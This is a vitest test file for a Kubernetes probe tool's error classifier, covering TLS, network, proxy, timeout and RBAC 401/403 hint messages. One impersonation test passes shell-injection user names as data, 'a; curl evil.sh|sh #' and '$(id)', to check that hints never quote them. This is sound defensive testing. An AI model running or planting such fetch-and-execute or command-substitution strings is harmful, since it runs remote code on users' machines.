import { describe, expect, it } from 'vitest';
import { errorExitCodes } from '../../../src/errors.js';
import { decideProxy } from '../../../src/probe/proxy.js';
import { joinHostPort } from '../../../src/probe/target.js';
import {
  classifyDnsError,
  classifyProxyRefusal,
  classifyProxyTlsError,
  classifyTcpError,
  classifyTlsError,
  connectDeadlineFailure,
  timeoutFailure,
  forbiddenFailure,
  impersonationFailure,
  retryAfterMs,
  LEGACY_COMMON_NAME,
  redirectFailure,
  serverMessage,
  tlsAlertFailure,
  tlsAlertOf,
  unauthorizedFailure,
  unexpectedStatusFailure,
  type PeerCertificate,
} from '../../../src/probe/classify.js';

const now = new Date('2026-11-28T20:00:00Z');
const peer: PeerCertificate = {
  subject: 'CN=kube-apiserver',
  issuer: 'CN=kubernetes',
  notBefore: new Date('2025-01-01T00:00:00Z'),
  notAfter: new Date('2026-01-01T00:00:00Z'),
  subjectAltNames: ['DNS:kubernetes', 'DNS:kubernetes.default.svc', 'IP Address:10.96.0.1'],
};
const err = (code: string, message = code) => Object.assign(new Error(message), { code });
const tls = { checkedName: 'api.example.com', caSource: '/home/u/.kube/ca.crt', now };

describe('classifyProxyTlsError (an https:// proxy, checked as Go checks it)', () => {
  it.each([
    ['the cluster has a CA', '/home/u/.kube/ca.crt', /trusted by the cluster's CA \(\/home\/u\/\.kube\/ca\.crt\), not the system roots: add the proxy's CA to the cluster's certificate-authority/],
    // Was: "add the proxy's CA to the cluster's certificate-authority (beside the cluster's CA)" for a cluster that has none.
    ['the cluster has none (the system roots)', 'system roots', /trusted by the system roots: add the proxy's CA to the system's trust store \(SSL_CERT_FILE, \/etc\/ssl\/certs\)/],
  ])('says where the proxy\'s CA must go when %s', (_name, caSource, hint) => {
    const failure = classifyProxyTlsError('https://proxy:3128', err('UNABLE_TO_VERIFY_LEAF_SIGNATURE'), { ...tls, caSource }, {});
    expect(failure.code).toBe('ERR_TLS');
    expect(failure.hint).toMatch(hint);
  });
});

describe('classifyTlsError', () => {
  it.each([
    ['CERT_HAS_EXPIRED', /expired at 2026-01-01T00:00:00\.000Z/, /renew/],
    ['UNABLE_TO_VERIFY_LEAF_SIGNATURE', /unknown authority.*not trusted by \/home\/u\/\.kube\/ca\.crt/, /kube-root-ca\.crt/],
    ['SELF_SIGNED_CERT_IN_CHAIN', /unknown authority/, /CA/],
    ['DEPTH_ZERO_SELF_SIGNED_CERT', /unknown authority/, /CA/],
    ['ERR_TLS_CERT_ALTNAME_INVALID', /not valid for api\.example\.com: it is valid for DNS:kubernetes, DNS:kubernetes\.default\.svc, IP Address:10\.96\.0\.1/, /tls-server-name: kubernetes\b/],
    ['CERT_NOT_YET_VALID', /not valid yet/, /clock/],
    ['ERR_SSL_WRONG_VERSION_NUMBER', /handshake failed/, /does not speak TLS/],
  ])('%s → a TLS failure (exit 6) that says why', (code, message, hint) => {
    const failure = classifyTlsError(err(code), peer, tls);
    expect(errorExitCodes[failure.code]).toBe(6);
    expect(failure.message).toMatch(message);
    expect(failure.hint).toMatch(hint);
  });

  // OpenSSL gives the same codes for a lapsed CA; the message named the server certificate and its (future) notAfter.
  it('names the expired CA, not the valid server certificate, when the CA has lapsed', () => {
    const valid = { ...peer, notBefore: new Date('2025-06-01T00:00:00Z'), notAfter: new Date('2027-01-01T00:00:00Z') };
    const trusted = [{ subject: 'CN=kubernetes', notBefore: new Date('2024-01-01T00:00:00Z'), notAfter: new Date('2025-12-01T00:00:00Z') }];
    const failure = classifyTlsError(err('CERT_HAS_EXPIRED'), valid, { ...tls, trusted });
    expect(errorExitCodes[failure.code]).toBe(6);
    expect(failure.message).toBe('the CA certificate CN=kubernetes of /home/u/.kube/ca.crt expired at 2025-12-01T00:00:00.000Z; the server certificate itself is valid until 2027-01-01T00:00:00.000Z (subject CN=kube-apiserver, issuer CN=kubernetes)');
    expect(failure.hint).toMatch(/kube-root-ca\.crt/);
  });

  it('names the CA that is not valid yet, when the server certificate is', () => {
    const valid = { ...peer, notBefore: new Date('2025-06-01T00:00:00Z'), notAfter: new Date('2027-01-01T00:00:00Z') };
    const trusted = [{ subject: 'CN=kubernetes', notBefore: new Date('2026-12-01T00:00:00Z'), notAfter: new Date('2036-01-01T00:00:00Z') }];
    const failure = classifyTlsError(err('CERT_NOT_YET_VALID'), valid, { ...tls, trusted });
    expect(failure.message).toMatch(/^the CA certificate CN=kubernetes of \/home\/u\/\.kube\/ca\.crt is not valid yet \(notBefore 2026-12-01T00:00:00\.000Z\); the server certificate itself is valid since 2025-06-01/);
    expect(failure.hint).toMatch(/clock/);
  });

  // A TLS 1.2 server that refuses the client certificate may just close (Node's and nginx's do; kubectl says "EOF"):
  // the hint said the server "did not get" one.
  it('suspects the client certificate that was sent when the server closes during the handshake', () => {
    expect(classifyTlsError(err('ECONNRESET'), undefined, { ...tls, clientCertSource: 'client-certificate-data' }).hint).toMatch(/^the server may have refused the client certificate from client-certificate-data/);
    expect(classifyTlsError(err('ECONNRESET'), undefined, tls).hint).toMatch(/did not get/);
  });

  // kube-apiserver (Go's net/http) answers plain HTTP on its TLS port with this 400; the failure had no hint.
  it('says to write https:// when a TLS port answers the plain request with Go\'s 400', () => {
    const failure = unexpectedStatusFailure('version', 400, 'Client sent an HTTP request to an HTTPS server.\n');
    expect(failure.message).toBe('version: unexpected HTTP 400: Client sent an HTTP request to an HTTPS server.');
    expect(failure.hint).toMatch(/^the server speaks TLS on that port: write the server URL with https:\/\//);
  });

  // Seen against a server with a SHA1-RSA certificate: "TLS handshake failed: UNSPECIFIED: CA signature digest algorithm too weak", no hint.
  it('names a SHA-1 signature as the reason, which kubectl refuses too', () => {
    const failure = classifyTlsError(err('UNSPECIFIED', 'CA signature digest algorithm too weak'), peer, tls);
    expect(errorExitCodes[failure.code]).toBe(6);
    expect(failure.message).toMatch(/^server certificate chain is signed with a weak digest \(SHA-1 or MD5\)/);
    expect(failure.hint).toMatch(/signed with SHA-256$/);
  });

  it('names the legacy Common Name and says to reissue the certificate with SANs', () => {
    const failure = classifyTlsError(err(LEGACY_COMMON_NAME, 'x509: certificate relies on legacy Common Name field, use SANs instead'), { ...peer, subjectAltNames: [] }, tls);
    expect(errorExitCodes[failure.code]).toBe(6);
    expect(failure.message).toMatch(/^server certificate is not valid for api\.example\.com: x509: certificate relies on legacy Common Name field, use SANs instead/);
    expect(failure.hint).toMatch(/reissue .* with subjectAltNames/);
  });

  it.each([
    ['ERR_SSL_TLSV13_ALERT_CERTIFICATE_REQUIRED', undefined, 'remote error: tls: certificate required', /wants a client certificate it trusts and got none/],
    ['ERR_SSL_SSLV3_ALERT_BAD_CERTIFICATE', '/home/u/alice.crt', 'remote error: tls: bad certificate', /refused the one from \/home\/u\/alice\.crt/],
    ['ERR_SSL_TLSV1_ALERT_UNKNOWN_CA', 'client-certificate-data', 'remote error: tls: unknown certificate authority', /signed by the CA the server trusts for clients/],
    ['ERR_SSL_SSLV3_ALERT_HANDSHAKE_FAILURE', undefined, 'remote error: tls: handshake failure', /cipher suite in common .* or the server wants a client certificate/],
    ['ERR_SSL_TLSV1_ALERT_PROTOCOL_VERSION', undefined, 'remote error: tls: protocol version not supported', /TLS 1\.2 or 1\.3/],
    ['ERR_SSL_TLSV1_UNRECOGNIZED_NAME', undefined, 'remote error: tls: unrecognized name', /tls-server-name/],
  ])('a TLS alert %s is a TLS failure (exit 6) at any stage, on one line, in Go\'s words', (code, clientCertSource, text, hint) => {
    const opensslMessage = `801C426DD07F0000:error:0A00045C:SSL routines:ssl3_read_bytes:some alert:../deps/openssl/openssl/ssl/record/rec_layer_s3.c:1601:SSL alert number 116\n`;
    const atTls = classifyTlsError(err(code, opensslMessage), undefined, { ...tls, clientCertSource });
    expect(errorExitCodes[atTls.code]).toBe(6);
    expect(atTls.message).toBe(`TLS handshake failed: ${text}`);
    expect(atTls.hint).toMatch(hint);
    const alert = tlsAlertOf(err(code, opensslMessage));
    expect(alert).toBeDefined();
    const atVersion = tlsAlertFailure('version', alert ?? '', { checkedName: 'api.example.com', clientCertSource });
    expect(errorExitCodes[atVersion.code]).toBe(6);
    expect(atVersion.message).toBe(`version: the server ended the TLS connection: ${text}`);
  });

  it('is not fooled by an SSL error that is not an alert', () => {
    expect(tlsAlertOf(err('ERR_SSL_WRONG_VERSION_NUMBER'))).toBeUndefined();
    expect(tlsAlertOf(err('ECONNRESET'))).toBeUndefined();
  });

  it('cuts an OpenSSL message to its reason, on one line', () => {
    const failure = classifyTlsError(err('ERR_SSL_SOMETHING_NEW', '801C426DD07F0000:error:0A00045C:SSL routines:ssl3_read_bytes:something new:../deps/x.c:1:\n'), undefined, tls);
    expect(failure.message).toBe('TLS handshake failed: ERR_SSL_SOMETHING_NEW: something new');
  });

  it('points at the cluster CA when only the system roots were used', () => {
    expect(classifyTlsError(err('UNABLE_TO_GET_ISSUER_CERT_LOCALLY'), peer, { ...tls, caSource: 'system roots' }).hint).toMatch(/set certificate-authority/);
  });
});

describe('network failures', () => {
  it.each([
    ['ENOTFOUND', /no such host/],
    ['EAI_AGAIN', /EAI_AGAIN/],
  ])('DNS %s → exit 5', (code, message) => {
    const failure = classifyDnsError('api.invalid', err(code));
    expect(errorExitCodes[failure.code]).toBe(5);
    expect(failure.message).toMatch(message);
  });

  it.each([
    ['ECONNREFUSED', undefined, 'ERR_TCP', /connection refused/],
    ['ECONNREFUSED', 'http://proxy:3128', 'ERR_PROXY', /proxy http:\/\/proxy:3128: connection refused/],
    ['EHOSTUNREACH', undefined, 'ERR_TCP', /no route to host/],
  ])('TCP %s via %s → %s', (code, proxy, expected, message) => {
    const failure = classifyTcpError('10.0.0.1:6443', err(code), proxy);
    expect(failure.code).toBe(expected);
    expect(failure.message).toMatch(message);
    expect(errorExitCodes[failure.code]).toBe(5);
  });
});

describe('timeouts', () => {
  it('name the flag that sets the limit: --timeout for probe, --probe-timeout under --probe', () => {
    expect(timeoutFailure('version', 800).hint).toContain('a too-short --timeout');
    expect(timeoutFailure('version', 800, '--probe-timeout').hint).toContain('a too-short --probe-timeout');
    expect(connectDeadlineFailure('10.0.0.1:443', 800, []).hint).toMatch(/raise --timeout only/);
    expect(connectDeadlineFailure('10.0.0.1:443', 800, [], '--probe-timeout').hint).toMatch(/raise --probe-timeout only/);
    expect(errorExitCodes[timeoutFailure('authn', 800).code]).toBe(5);
  });
});

describe('HTTP failures', () => {
  const context = { credentialsSent: true, now, namespace: 'team-a', path: '/api/v1/namespaces/team-a/pods' };
  const unauthorized = '{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Failure","message":"Unauthorized","reason":"Unauthorized","code":401}';

  it('says when the token expired', () => {
    const failure = unauthorizedFailure('authn', unauthorized, { ...context, tokenExpiresAt: new Date('2026-11-28T19:00:00Z') });
    expect(errorExitCodes[failure.code]).toBe(7);
    expect(failure.hint).toContain('expired at 2026-11-28T19:00:00.000Z');
  });

  it('does not blame expiry for a token that is still valid', () => {
    const failure = unauthorizedFailure('authn', unauthorized, { ...context, tokenExpiresAt: new Date('2026-11-29T00:00:00Z') });
    expect(failure.hint).not.toContain('expired');
  });

  it.each([
    ['token', { kind: 'token', source: 'token' }, /the token is invalid for this cluster/],
    ['tokenFile', { kind: 'tokenFile', source: 'tokenFile /var/run/t' }, /the token in tokenFile \/var\/run\/t is invalid/],
    ['basic auth', { kind: 'basic', source: 'user "admin"' }, /refused the username and password of user "admin".*basic auth/],
    ['a client certificate', { kind: 'client-cert', source: '/home/u/alice.crt' }, /client certificate from \/home\/u\/alice\.crt was refused.*client CA/],
    ['an exec plugin', { kind: 'exec', source: 'exec plugin kubelogin (v1)' }, /token from exec plugin kubelogin \(v1\) was refused: run the plugin by hand/],
    ['an oidc auth-provider', { kind: 'auth-provider', source: 'auth-provider oidc id-token' }, /oidc id-token was refused/],
  ] as const)('gives a 401 hint about the credential in use: %s', (_name, credential, hint) => {
    const failure = unauthorizedFailure('authn', unauthorized, { ...context, credential });
    expect(errorExitCodes[failure.code]).toBe(7);
    expect(failure.hint).toMatch(hint);
    if (credential.kind !== 'token' && credential.kind !== 'tokenFile') expect(failure.hint).not.toMatch(/the token is invalid/);
  });

  it('shows the 403 message from the server and an RBAC hint', () => {
    const body = JSON.stringify({ kind: 'Status', message: 'pods is forbidden: User "system:serviceaccount:team-a:viewer" cannot list resource "pods"', code: 403 });
    const failure = forbiddenFailure(body, context);
    expect(errorExitCodes[failure.code]).toBe(8);
    expect(failure.message).toContain('pods is forbidden: User "system:serviceaccount:team-a:viewer"');
    expect(failure.hint).toMatch(/rolebinding .* -n team-a/);
  });

  it.each([
    ['the account our token names', 'system:serviceaccount:team-a:viewer', 'system:serviceaccount:team-a:viewer', '--serviceaccount=team-a:viewer'],
    ['another account (a server picking who the pasted grant is for)', 'system:serviceaccount:kube-system:attacker', 'system:serviceaccount:team-a:viewer', '--serviceaccount=NS:SA'],
    ['a user, with no service-account token sent', 'alice@example.com', undefined, '--serviceaccount=NS:SA'],
  ])('names the subject of a 403 only when it is %s', (_name, user, tokenUser, flag) => {
    const body = JSON.stringify({ kind: 'Status', message: `pods is forbidden: User "${user}" cannot list resource "pods" in API group "" in the namespace "team-a"`, code: 403 });
    const hint = forbiddenFailure(body, { ...context, tokenUser, path: '/api/v1/namespaces/team-a/pods?limit=1' }).hint;
    expect(hint).toBe(`grant the permission with RBAC, e.g. kubectl create rolebinding NAME --clusterrole=view ${flag} -n team-a`);
  });

  it.each([
    ['a service account', 'system:serviceaccount:team-a:deployer', '--serviceaccount=team-a:deployer'],
    ['a user a shell takes as it is', 'alice@example.com', '--user=alice@example.com'],
    ['a user with shell syntax in it', 'a; curl evil.sh|sh #', '--user=USER'],
    ['a service account with shell syntax in it', 'system:serviceaccount:x:$(id)', '--user=USER'],
  ])('quotes no shell syntax from the server into an impersonation hint: %s', (_name, user, flag) => {
    const body = JSON.stringify({ kind: 'Status', message: `users "bob" is forbidden: User "${user}" cannot impersonate resource "users" in API group "" at the cluster scope`, code: 403 });
    const hint = forbiddenFailure(body, context).hint ?? '';
    expect(hint).toMatch(new RegExp(`kubectl create clusterrolebinding NAME --clusterrole=NAME ${flag.replace(/[$()|.]/g, '\\$&')}; or remove`));
    expect(hint.startsWith(`${JSON.stringify(user)} may not impersonate`)).toBe(true);
  });

  it.each([
    ['/apis/apps/v1/namespaces/x/deployments', /^grant the permission with RBAC, e\.g\. kubectl create rolebinding NAME --clusterrole=view --serviceaccount=NS:SA -n x$/],
    ['/api/v1/nodes?limit=1', /^grant the permission with RBAC, e\.g\. kubectl create clusterrole NAME --verb=list --resource=nodes, then kubectl create clusterrolebinding NAME --clusterrole=NAME --serviceaccount=NS:SA$/],
    ['/apis/apiextensions.k8s.io/v1/customresourcedefinitions/x', /kubectl create clusterrole NAME --verb=get --resource=customresourcedefinitions\.apiextensions\.k8s\.io, then/],
    ['/api/v1/namespaces/x/secrets/s', /kubectl create role NAME --verb=get --resource=secrets -n x, then kubectl create rolebinding NAME --role=NAME --serviceaccount=NS:SA -n x$/],
    ['/apis/apps/v1/namespaces/x/deployments/d/scale', /kubectl create rolebinding NAME --clusterrole=view --serviceaccount=NS:SA -n x$/],
    ['/metrics', /kubectl create clusterrole NAME --verb=get --non-resource-url=\/metrics, then kubectl create clusterrolebinding/],
  ])('grants access to what %s names, not to the context namespace', (path, hint) => {
    const body = JSON.stringify({ kind: 'Status', message: 'forbidden', code: 403 });
    expect(forbiddenFailure(body, { ...context, path }).hint).toMatch(hint);
  });

  it.each([
    ['proxy-url', { proxyUrl: 'http://p:3128' }, {}, /remove proxy-url from the cluster/],
    ['HTTPS_PROXY', {}, { HTTPS_PROXY: 'http://p:3128' }, /add the API server to NO_PROXY/],
  ])('suggests what applies to a proxy from %s when it refuses CONNECT', (_name, cluster, env, hint) => {
    // The source as proxy.ts names it, not a literal of this test's own.
    const decision = decideProxy({ scheme: 'https', host: 'api.example.com', port: 6443, ...cluster, env });
    if (decision.kind !== 'proxy') throw new Error(`expected a proxy, got ${decision.kind}`);
    expect(classifyProxyRefusal('http://p:3128', 'api:6443', 'HTTP/1.1 403 Forbidden', decision.source).hint).toMatch(hint);
  });

  it.each([
    ['10.0.0.1', '10.0.0.1:6443'],
    ['::1', '[::1]:6443'],
    ['api.example.com', 'api.example.com:6443'],
  ])('joins %s and a port as net.JoinHostPort does', (host, joined) => {
    expect(joinHostPort(host, 6443)).toBe(joined);
  });

  // A WAF's or gateway's 403 page (AWS API Gateway: {"message":"Forbidden"}) got an RBAC grant as the fix, and a 401 one a token hint.
  it.each([
    ['an HTML page', '<html><body><h1>403 Forbidden</h1>Request blocked.</body></html>'],
    ['a gateway\'s JSON', '{"message":"Forbidden"}'],
  ])('says a 401 or 403 that is not a Kubernetes Status came from something in front of the API server (%s)', (_what, body) => {
    expect(forbiddenFailure(body, context).hint).toMatch(/^the HTTP 403 is not a Kubernetes Status, so the API server did not send it: something in front of it/);
    expect(unauthorizedFailure('authn', body, context).hint).toMatch(/^the HTTP 401 is not a Kubernetes Status/);
    expect(forbiddenFailure(JSON.stringify({ kind: 'Status', code: 403, message: 'pods is forbidden: User "system:serviceaccount:a:b" cannot list resource "pods"' }), context).hint).toMatch(/^grant the permission with RBAC/);
  });

  it('explains a 403 for system:anonymous as missing credentials', () => {
    const failure = forbiddenFailure(JSON.stringify({ kind: 'Status', message: 'pods is forbidden: User "system:anonymous" cannot list' }), context);
    expect(failure.hint).toMatch(/without credentials/);
  });

  it.each([
    ['users, by a user', 'users "jane" is forbidden: User "bob" cannot impersonate resource "users" in API group "" at the cluster scope', /--verb=impersonate --resource=users, then kubectl create clusterrolebinding NAME --clusterrole=NAME --user=bob; or remove the impersonation/],
    ['groups, by a service account', 'groups "devs" is forbidden: User "system:serviceaccount:ci:deployer" cannot impersonate resource "groups" in API group "" at the cluster scope', /--resource=groups, .*--serviceaccount=ci:deployer;/],
    ['a user-extra', 'userextras.authentication.k8s.io "x" is forbidden: User "bob" cannot impersonate resource "userextras/scopes" in API group "authentication.k8s.io" at the cluster scope', /--resource=userextras\.authentication\.k8s\.io\/scopes,/],
  ])('hints at the impersonate verb, not a rolebinding for the request, when impersonating %s is refused', (_name, message, hint) => {
    const failure = forbiddenFailure(JSON.stringify({ kind: 'Status', code: 403, message }), context);
    expect(errorExitCodes[failure.code]).toBe(8);
    expect(failure.message).toBe(`request: HTTP 403: ${message}`);
    expect(failure.hint).toMatch(hint);
    expect(failure.hint).not.toMatch(/rolebinding NAME --clusterrole=view/);
  });

  it('leaves other 403s to the RBAC hint', () => {
    expect(impersonationFailure('authn', JSON.stringify({ message: 'pods is forbidden: User "bob" cannot list resource "pods"' }))).toBeUndefined();
  });

  it.each([
    [429, '1', 1000],
    [503, '0', 0],
    [500, '-3', 0],
    [429, undefined, undefined],
    [429, '1.5', undefined],
    [429, 'Wed, 21 Oct 2026 07:28:00 GMT', undefined],
    [404, '1', undefined],
    [403, '1', undefined],
  ])('retries HTTP %i with Retry-After %s after %sms, as client-go checkWait decides', (status, header, ms) => {
    expect(retryAfterMs(status, header)).toBe(ms);
  });

  it('names the Location of a redirect it did not follow', () => {
    expect(redirectFailure('request', 302, 'https://sso.example/login').message).toContain('https://sso.example/login');
  });

  it.each([
    ['{"message":"hello"}', 'hello'],
    ['<html>  bad\n gateway </html>', '<html> bad gateway </html>'],
    ['', ''],
  ])('serverMessage(%j) → %j', (body, expected) => {
    expect(serverMessage(body)).toBe(expected);
  });
});
